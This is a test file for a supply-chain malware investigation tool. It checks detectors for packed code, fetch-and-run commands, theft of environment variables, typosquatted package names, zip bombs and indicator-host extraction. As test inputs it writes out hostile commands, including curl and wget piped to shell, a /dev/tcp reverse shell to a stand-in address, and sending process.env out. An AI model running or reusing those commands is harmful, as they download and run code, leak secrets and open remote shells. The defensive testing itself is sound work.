import fc from 'fast-check';
import { changePointOf } from '../../../../shared/investigation/changePoint';
import { hostsIn } from '../../../../shared/investigation/hosts';
import { defang } from '../../../../shared/investigation/indicators';
import { inventoryOf } from '../../../../shared/investigation/inventory';
import { marksOf } from '../../../../shared/investigation/marks';
import { diffPackages } from '../../../../shared/investigation/packageDiff';
import { lookalikeOf } from '../../../../shared/investigation/popular';
import { renamed, zipOf } from '../../../fixtures/zip';

const idsOf = (path: string, text: string) => marksOf(path, Buffer.from(text)).map(({ id }) => id);

describe('marks of a file', () => {
  it.each<[string, string, readonly string[]]>([
    ['a.js', "eval(atob('YWxlcnQoMSk='))", ['packed']],
    ['a.py', "exec(base64.b64decode('cHJpbnQoMSk='))", ['packed']],
    [
      'a.js',
      `var ${Array.from({ length: 12 }, (_, i) => `_0x${(4096 + i).toString(16)}`).join(',')};`,
      ['packed'],
    ],
    ['a.js', 'exec("curl -s http://x.test/a | sh")', ['fetches-and-runs']],
    ['a.js', 'send(JSON.stringify(process.env))', ['takes-environment']],
    ['a.sh', 'wget -q http://x.test/m && chmod +x m && ./m', ['fetches-and-runs']],
    ['a.js', 'new Function(Buffer.from(x, "hex").toString())()', ['packed']],
    ['bin/tool', '\u007fELF rest', ['binary']],
    ['tool.exe', 'MZ rest', ['binary']],
  ])('finds what is wrong with %s: %j', (path, text, ids) => {
    expect(idsOf(path, text)).toEqual(ids);
  });

  it.each([
    ['a.js', 'const text = Buffer.from(body, "base64").toString(); module.exports = text;'],
    ['a.js', 'module.exports = { region: process.env.AWS_REGION };'],
    ['a.min.js', `!function(){${'var a=1,b=function(c){return c+a};'.repeat(200)}}();`],
    ['logo.svg', `<svg>${'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo'.repeat(100)}</svg>`],
    ['README.md', 'Never run eval(atob(x)).'],
  ])('leaves %s alone: %j', (path, text) => {
    expect(idsOf(path, text)).toEqual([]);
  });
});

describe('names like popular ones', () => {
  it.each([
    ['expres', 'express'],
    ['lodahs', 'lodash'],
    ['axioss', 'axios'],
    ['requestz', 'request'],
  ])('%s is taken for %s', (name, known) => {
    expect(lookalikeOf(name)).toBe(known);
  });

  it.each(['express', 'requests', 'order-tools', 'ws', 'left-pad'])('%s is not', (name) => {
    expect(lookalikeOf(name)).toBeNull();
  });
});

describe('what is in a package', () => {
  it('ends the look at a file that inflates without an end, and goes on with the others', async () => {
    const { files, unread } = await inventoryOf(
      await zipOf({ 'bomb.bin': Buffer.alloc(129 * 1024 * 1024), 'index.js': 'xmrig' }),
    );

    expect([...files.keys()]).toEqual(['index.js']);
    expect(unread).toEqual([expect.stringContaining('bomb.bin: it is larger than')]);
  });

  it('takes names as names, never as paths, and says when one is there twice', async () => {
    const archive = await zipOf({ 'aa.js': '1', 'bb.js': '2' });
    const { files, unread } = await inventoryOf(renamed(archive, 'bb.js', 'aa.js'));

    expect(files.size).toBe(1);
    expect(unread).toEqual(['aa.js: it is in there twice']);
  });

  it('is the same as itself, whatever it is made of (property)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(fc.stringMatching(/^[a-z]{1,8}(?:\/[a-z]{1,8})?\.js$/), fc.string(), { maxKeys: 6 }),
        async (files) => {
          const one = await inventoryOf(await zipOf(files));
          expect(diffPackages(one, one)).toEqual({
            added: [],
            removed: [],
            changed: [],
            dependencies: [],
            own: [],
          });
        },
      ),
      { numRuns: 30 },
    );
  });

  it('tells what became of each dependency, also in Python and within another one', async () => {
    const npm = (at: string, name: string, version: string) => ({
      [`${at}node_modules/${name}/package.json`]: JSON.stringify({ name, version }),
    });
    const good = await inventoryOf(
      await zipOf({
        ...npm('', 'a', '1.0.0'),
        ...npm('', 'gone', '1.0.0'),
        ...npm('node_modules/a/', 'b', '1.0.0'),
        'node_modules/a/node_modules/b/index.js': '1',
        'my_lib-2.0.dist-info/METADATA': 'Name: My.Lib\nVersion: 2.0\n',
        'my_lib/core.py': '1',
      }),
    );
    const now = await inventoryOf(
      await zipOf({
        ...npm('', 'a', '1.0.1'),
        ...npm('', 'fresh', '3.0.0'),
        ...npm('node_modules/a/', 'b', '1.0.0'),
        'node_modules/a/node_modules/b/index.js': '2',
        'my_lib-2.0.dist-info/METADATA': 'Name: My.Lib\nVersion: 2.0\n',
        'my_lib/core.py': '2',
      }),
    );
    const found = diffPackages(good, now).dependencies.map(({ name, kind, files }) => [name, kind, files]);

    expect(found).toEqual([
      ['a', 'other-version', ['node_modules/a/package.json']],
      ['fresh', 'added', ['node_modules/fresh/package.json']],
      ['b', 'rewritten', ['node_modules/a/node_modules/b/index.js']],
      ['my-lib', 'rewritten', ['my_lib/core.py']],
      ['gone', 'removed', ['node_modules/gone/package.json']],
    ]);
  });
});

describe('the change-point', () => {
  it('is the hour in which the mean shifts', () => {
    const values = [...Array.from({ length: 20 }, (_, i) => 40 + (i % 4)), 300, 310, 290, 305];

    expect(changePointOf(values)).toMatchObject({ index: 20 });
  });

  it.each([
    ['noise', Array.from({ length: 40 }, (_, i) => 40 + ((i * 7919) % 11))],
    ['silence', new Array<number>(40).fill(0)],
    ['too little', [1, 900]],
  ])('is not there in %s', (_what, values) => {
    expect(changePointOf(values)).toBeNull();
  });

  it('never comes of a level series (property)', () => {
    fc.assert(
      fc.property(fc.nat(1000), fc.integer({ min: 0, max: 60 }), (level, n) => {
        expect(changePointOf(new Array<number>(n).fill(level))).toBeNull();
      }),
    );
  });
});

describe('indicators', () => {
  it('are the hosts that a text would reach', () => {
    const text =
      'curl -s http://a.badhost.test/x.sh | sh; bash -i >& /dev/tcp/198.51.100.9/9001; wget b.badhost.test/y; fetch("https://s3.amazonaws.com/z")';

    expect(hostsIn(text).map(({ kind, value }) => `${kind} ${value}`)).toEqual([
      'domain a.badhost.test',
      'address 198.51.100.9',
      'domain b.badhost.test',
    ]);
  });

  it('are written so that nothing follows them by itself', () => {
    expect(defang('https://a.badhost.test/x')).toBe('hxxps://a[.]badhost[.]test/x');
    expect(defang('198.51.100.9')).toBe('198[.]51[.]100[.]9');
  });
});
